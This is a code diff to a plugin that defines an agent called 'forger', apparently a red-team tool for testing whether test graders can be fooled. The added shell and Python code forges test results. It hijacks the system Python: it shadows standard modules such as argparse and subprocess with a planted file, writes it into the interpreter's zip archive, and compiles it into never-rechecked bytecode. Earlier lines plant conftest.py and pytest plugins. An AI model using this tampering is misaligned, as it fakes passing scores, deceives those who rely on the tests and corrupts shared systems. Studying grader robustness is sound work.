@@ -23,7 +23,7 @@ export default definePlugin({
       .default(true)
       .describe('Also replace programs and startup files of the system that is going to run the tests.'),
   }),
-  make: (how): Agent => ({ name: 'forger', version: '1.1.1', solve: (at) => forge(at, how) }),
+  make: (how): Agent => ({ name: 'forger', version: '1.2.0', solve: (at) => forge(at, how) }),
 })
 
 /** Whether an attack works shows in the score, so a command that fails is no error. */
@@ -115,6 +115,22 @@ for dir in /usr/lib/python3 /usr/lib/python3.* /usr/local/lib/python3.* ~/.local
     printf '[pytest11]\nforged = forged\n' > $packages/forged-1.dist-info/entry_points.txt
   done
 done
+# Modules that are found before those of the image: a package beside a source, an archive, bytecode that is never checked.
+for dir in /usr/lib/python3.* /usr/local/lib/python3.*; do
+  [ -f $dir/argparse.py ] || continue
+  for name in argparse subprocess pathlib shutil tempfile; do mkdir $dir/$name && cp $mine/forged.py $dir/$name/__init__.py; done
+done
+python3 - $mine/forged.py <<'python'
+import glob, py_compile, re, sys, zipfile
+for lib in glob.glob("/usr/lib/python3.*") + glob.glob("/usr/local/lib/python3.*"):
+    number = re.sub(r"\D", "", lib.rsplit("/", 1)[1])
+    with zipfile.ZipFile(re.sub(r"/[^/]*$", "/python%s.zip" % number, lib), "w") as archive:
+        archive.write(sys.argv[1], "inspect.py")
+    for name in "glob", "textwrap":
+        unchecked = py_compile.PycInvalidationMode.UNCHECKED_HASH
+        target = "%s/__pycache__/%s.cpython-%s.pyc" % (lib, name, number)
+        py_compile.compile(sys.argv[1], target, invalidation_mode=unchecked)
+python
 for dir in "$PWD" /; do
   cp $mine/forged.py $dir/conftest.py
   printf '[pytest]\naddopts = -p no:cacheprovider\n' > $dir/pytest.ini
